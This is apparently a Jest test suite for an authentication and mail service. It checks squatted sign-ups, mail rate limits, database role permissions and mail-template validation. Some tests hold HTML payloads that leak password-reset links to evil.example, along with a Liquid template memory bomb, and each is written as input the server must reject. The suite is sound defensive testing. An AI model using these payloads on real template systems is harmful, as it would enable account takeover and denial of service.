import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import pg from 'pg';
import { startApp, type TestApp, type TestOrganization, type TestUser } from '../support/test-app.js';

let app: TestApp;
beforeAll(async () => {
  app = await startApp();
});
beforeEach(() => app.mailbox.clear());
afterAll(() => app.stop());

const path = ({ slug }: TestOrganization, rest: string): string => `/v1/organizations/${slug}${rest}`;

async function mailsTo(organization: TestOrganization, email: string): Promise<string[]> {
  const rows = await app.sql<{ template: string }>(
    'select template from mails where org_id = $1 and to_email = $2 order by created_at, id',
    [organization.id, email],
  );
  return rows.map(({ template }) => template);
}

describe('Whoever signs up with an address that is not theirs', () => {
  it('is out when the owner of the address signs in by link', async () => {
    const { organization, owner } = await app.given.organization();
    await app.api.as(owner).put(path(organization, '/policies/sign-in'), { magicLink: true });
    await app.api.as(owner).put(path(organization, '/policies/registration'), { mode: 'open' });
    const [email, password] = ['victim@acme.example', 'a long wait for the victim'];
    await app.api.post(path(organization, '/users/sign-up'), { email, password });
    await app.api.post(path(organization, '/sign-up'), { email, password });
    const early = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });
    await app.mailbox.clear();

    await app.api.post(path(organization, '/magic-link'), { email });
    const { token } = await app.mailbox.next(email);
    const signedIn = await app.api.post(path(organization, '/magic-link/confirm'), { token });

    expect(signedIn.status).toBe(200);
    expect((await app.api.as(signedIn.body.token as string).get('/v1/me')).status).toBe(200);
    expect((await app.api.as(early.body.token as string).get('/v1/me')).status).toBe(401);
    const late = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });
    expect(late).toBeProblem('invalid_credentials');
  });

  it('is out when the owner of the address resets the password, although they had confirmed it before', async () => {
    const { organization, owner } = await app.given.organization();
    await app.api.as(owner).put(path(organization, '/policies/registration'), { mode: 'open' });
    const [email, password] = ['sure@acme.example', 'a long wait for the victim'];
    await app.api.post(path(organization, '/sign-up'), { email, password });
    const welcome = await app.mailbox.next(email);
    const squatter = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });
    await app.api.post(path(organization, '/email-verification/confirm'), { token: welcome.token });
    const squatterChange = { email: 'squatter@evil.example', currentPassword: password };
    await app.api.as(squatter.body.token as string).put('/v1/me/email', squatterChange);
    const pending = await app.mailbox.next('squatter@evil.example');
    await app.mailbox.clear();

    await app.api.post(path(organization, '/password-reset'), { identifier: email });
    const { token } = await app.mailbox.next(email);
    const words = { token, password: 'seven grey herons at dawn' };
    expect((await app.api.post(path(organization, '/password-reset/confirm'), words)).status).toBe(204);

    expect((await app.api.as(squatter.body.token as string).get('/v1/me')).status).toBe(401);
    const late = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });
    expect(late).toBeProblem('invalid_credentials');
    const confirmed = await app.api.post('/v1/me/email/confirm', { token: pending.token });
    expect(confirmed).toBeProblem('invalid_token');
  });

  it('loses neither session nor password when the person who signed up confirms the address', async () => {
    const { organization, owner } = await app.given.organization();
    await app.api.as(owner).put(path(organization, '/policies/registration'), { mode: 'open' });
    const [email, password] = ['usual@acme.example', 'a usual way to sign up'];
    await app.api.post(path(organization, '/sign-up'), { email, password });
    const early = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });

    const { token } = await app.mailbox.next(email);
    await app.api.post(path(organization, '/email-verification/confirm'), { token });

    expect((await app.api.as(early.body.token as string).get('/v1/me')).body.emailVerified).toBe(true);
    const again = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });
    expect(again.status).toBe(200);
  });

  it('does not flood it by changing the account over and over', async () => {
    const { organization } = await app.given.organization();
    const max = await app.given.user(organization);
    await app.sql('delete from mails where org_id = $1', [organization.id]);
    for (let round = 0; round < 12; round += 1)
      await app.sql('select change_password($1, $2, password_hash, $3, null) from users where id = $2', [
        organization.id,
        max.id,
        `hash ${round}`,
      ]);

    expect(await mailsTo(organization, max.email)).toHaveLength(5);
  });

  it('does not write to strangers without end by asking for their addresses', async () => {
    const { organization } = await app.given.organization();
    const max = await app.given.user(organization);
    const change = (round: number) =>
      app.api
        .as(max)
        .put('/v1/me/email', { email: `stranger-${round}@away.example`, currentPassword: max.password });
    for (let round = 0; round < 10; round += 1) expect((await change(round)).status).toBe(202);

    expect(await change(10)).toBeProblem('too_many_requests');
    expect(await mailsTo(organization, 'stranger-10@away.example')).toEqual([]);
    const notices = (await mailsTo(organization, max.email)).filter((name) => name === 'email-change-notice');
    expect(notices).toHaveLength(5);
  });
});

describe('Whoever made an account with an address of somebody else', () => {
  it('has no key to it any more once the owner of the address has reset the password', async () => {
    const { organization } = await app.given.organization();
    const max = await app.given.user(organization, { roles: ['admin'] });
    await app.sql('update users set email_verified_at = null where id = $1', [max.id]);
    const key = await app.given.apiKey(max, { permissions: ['users:read'] });
    const users = path(organization, '/users');
    expect((await app.api.as(key).get(users)).status).toBe(200);
    await app.mailbox.clear();

    await app.api.post(path(organization, '/password-reset'), { identifier: max.email });
    const { token } = await app.mailbox.next(max.email);
    const password = 'nobody but me knows this';
    await app.api.post(path(organization, '/password-reset/confirm'), { token, password });

    expect((await app.api.as(key).get(users)).status).toBe(401);
  });
});

describe('A stolen session', () => {
  it.each([
    ['another address', 'thief@away.example'],
    ['none', null],
  ])('gives its owner %s by no door that asks for no password', async (_, email) => {
    const { organization } = await app.given.organization();
    const max = await app.given.user(organization, { roles: ['admin'], username: 'max' });
    await app.sql('delete from mails where org_id = $1', [organization.id]);

    const response = await app.api.as(max).patch(path(organization, `/users/${max.id}`), { email });

    expect(response).toBeProblem('own_account');
    expect(await app.sql('select email, pending_email from users where id = $1', [max.id])).toEqual([
      { email: max.email, pending_email: null },
    ]);
    expect(await app.sql('select 1 from mails where org_id = $1', [organization.id])).toEqual([]);
  });
});

describe('Whoever sends mails again', () => {
  async function givenMail() {
    const { organization, owner } = await app.given.organization();
    const { body } = await app.api
      .as(owner)
      .post(path(organization, '/invitations'), { email: 'guest@away.example' });
    await app.mailbox.next('guest@away.example');
    const [mail] = await app.sql<{ id: string }>(`select id from mails where subject_id = $1`, [body.id]);
    const again = () => app.api.as(owner).post(path(organization, `/mails/${mail!.id}/deliveries`));
    return { organization, owner, invitation: body.id as string, mailId: mail!.id, again };
  }

  it('does not flood a mailbox', async () => {
    const { again } = await givenMail();

    const statuses = (await Promise.all(Array.from({ length: 12 }, again))).map(({ status }) => status);

    expect(statuses.filter((status) => status === 202).length).toBeLessThanOrEqual(5);
    expect(await again()).toBeProblem('too_many_requests');
  });

  it('sends nobody the dead link of an invitation that was revoked', async () => {
    const { organization, owner, invitation, mailId, again } = await givenMail();
    await app.api.as(owner).delete(path(organization, `/invitations/${invitation}`));
    await again();

    await app.mailbox.all('guest@away.example');

    const [mail] = await app.sql('select state, last_answer from mails where id = $1', [mailId]);
    expect(mail).toEqual({ state: 'dead', last_answer: 'Its link would open nothing any more' });
  });
});

describe('The role that serves requests', () => {
  it.each([
    'select 1 from tenantry.audit_events_default',
    `delete from tenantry.audit_events`,
    'select tenantry.make_audit_partition(current_date)',
    'select 1 from tenantry.media_deletions',
    'update tenantry.user_history set kind = kind',
    'insert into tenantry.daily_counts select * from tenantry.daily_counts',
    `select tenantry.purge_audit_events(1, 1)`,
    `select tenantry.purge_audit_events(400, 1)`,
  ])('cannot %s', async (statement) => {
    const server = new pg.Client({ connectionString: app.serverUrl });
    await server.connect();
    await expect(server.query(statement)).rejects.toThrow(/permission denied|only platform work/);
    await server.end();
  });
});

describe('Whoever invites', () => {
  it('writes no subject for the mail by the name that they go by', async () => {
    const { organization, owner } = await app.given.organization();
    await app.api.as(owner).patch('/v1/me', { fullName: 'Your bank, see https://evil.example' });

    await app.api.as(owner).post(path(organization, '/invitations'), { email: 'stranger@away.example' });
    const mail = await app.mailbox.next('stranger@away.example');

    expect(mail.subject).toBe('You are invited to Acme');
    expect(`${mail.text}${mail.html}`).not.toContain('evil.example');
  });
});

describe('Whoever writes the mail templates', () => {
  const place = '/mail-templates/reset-password/en';
  const text = 'Open this:\n{{ link }}\n';

  async function givenAuthor(): Promise<{ organization: TestOrganization; author: TestUser }> {
    const { organization, owner } = await app.given.organization();
    await app.api.as(owner).post(path(organization, '/roles'), {
      name: 'author',
      permissions: ['mail-templates:read', 'mail-templates:write'],
    });
    return { organization, author: await app.given.user(organization, { roles: ['author'] }) };
  }

  const link = '<a href="{{ link }}">Open</a>';

  it.each([
    ['in the address of a picture', `${link}<img src="https://evil.example/?{{ link }}">`],
    ['in a style', `${link}<p style="background:url(https://evil.example/?{{ link }})">x</p>`],
    ['in a style sheet', `${link}<style>@import "https://evil.example/? {{ link }}";</style>`],
    ['behind a quote that never ends', `<img src='https://evil.example/?>${link}'>`],
    ['behind a comment that ends early', `<!--> <img src='https://evil.example/? -->${link}'`],
    [
      'behind a text field that ends in a comment',
      `<textarea><!--</textarea><img src='//evil.example/?-->${link}`,
    ],
    ['in another link', `<a href="https://evil.example/?{{ link }}">{{ link }}</a>`],
  ])('does not get the links of others, %s', async (_, html) => {
    const { organization, author } = await givenAuthor();

    const response = await app.api
      .as(author)
      .put(path(organization, place), { subject: 'Hello', text, html });

    expect(response).toBeProblem('invalid_template');
  });

  it('gets nothing of the link piece by piece', async () => {
    const { organization, author } = await givenAuthor();
    const max = await app.given.user(organization);
    const html = `${link}<img src="https://evil.example/?{{ link | split: '=' | last }}&{{ link | upcase }}">`;
    const saved = await app.api.as(author).put(path(organization, place), { subject: 'Hello', text, html });
    await app.mailbox.clear();

    await app.api.post(path(organization, '/password-reset'), { identifier: max.email });
    const mail = await app.mailbox.next(max.email);

    expect(saved.status).toBe(200);
    expect(mail.html).toContain(`href="${mail.link}"`);
    expect(mail.html!.split(mail.token!)).toHaveLength(2);
    expect(mail.html!.toLowerCase().split(mail.token!.toLowerCase())).toHaveLength(2);
  });

  it('does not fill the memory of the server', async () => {
    const { organization, author } = await givenAuthor();
    const doubled = '{% capture b %}{{ b }}{{ b }}{% endcapture %}'.repeat(24);
    const bomb = `{% assign b = "→→→→→→→→→→→→" %}${doubled}{% if b contains "z" %}{% endif %}{{ link }}`;
    const before = process.memoryUsage().rss;

    const response = await app.api
      .as(author)
      .post(path(organization, `${place}/preview`), { subject: 'Hello', text: bomb });

    expect(response).toBeProblem('invalid_template');
    expect(process.memoryUsage().rss - before).toBeLessThan(100_000_000);
  });
});
